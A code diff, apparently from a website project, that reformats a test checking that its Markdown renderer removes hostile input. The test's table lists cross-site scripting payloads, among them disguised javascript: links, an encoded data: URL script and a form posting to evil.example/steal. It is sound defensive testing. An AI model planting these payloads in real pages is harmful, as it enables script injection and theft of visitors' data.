@@ -7,7 +7,8 @@ import { renderMarkdown } from '../../src/lib/content/markdown';
 const processor = config.markdown?.processor;
 if (!processor) throw new Error('astro.config.mjs sets no markdown.processor');
 const bodyRenderer = await processor.createRenderer({ syntaxHighlight: false } as never);
-const renderBody = async (source: string) => (await bodyRenderer.render(source, { fileURL: pathToFileURL('content/events/x.md') } as never)).code;
+const renderBody = async (source: string) =>
+  (await bodyRenderer.render(source, { fileURL: pathToFileURL('content/events/x.md') } as never)).code;
 
 /** Each hostile input, and what of it may be left on the page. */
 const HOSTILE: ReadonlyArray<[what: string, markdown: string, mustNotContain: RegExp]> = [
@@ -17,7 +18,11 @@ const HOSTILE: ReadonlyArray<[what: string, markdown: string, mustNotContain: Re
   ['a javascript: link in Markdown', '[报名](javascript:alert(1))', /javascript:/i],
   ['a javascript: link in raw HTML, disguised', '<a href=" JaVaScRiPt:alert(1)">报名</a>', /javascript:/i],
   ['an iframe', '<iframe src="https://evil.example/"></iframe>', /<iframe|evil\.example/i],
-  ['a form posting to another origin', '<form action="https://evil.example/steal" method="post"><input name="id"><button>提交</button></form>', /<form|<input|evil\.example|action=/i],
+  [
+    'a form posting to another origin',
+    '<form action="https://evil.example/steal" method="post"><input name="id"><button>提交</button></form>',
+    /<form|<input|evil\.example|action=/i,
+  ],
   ['an object', '<object data="/x.swf"><embed src="/x.swf"></object>', /<object|<embed|x\.swf/i],
   ['a data: URL', '[下载](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)', /data:/i],
   ['an inline style', '<p style="background:url(https://evil.example/)">文字</p>', /style=|evil\.example/i],
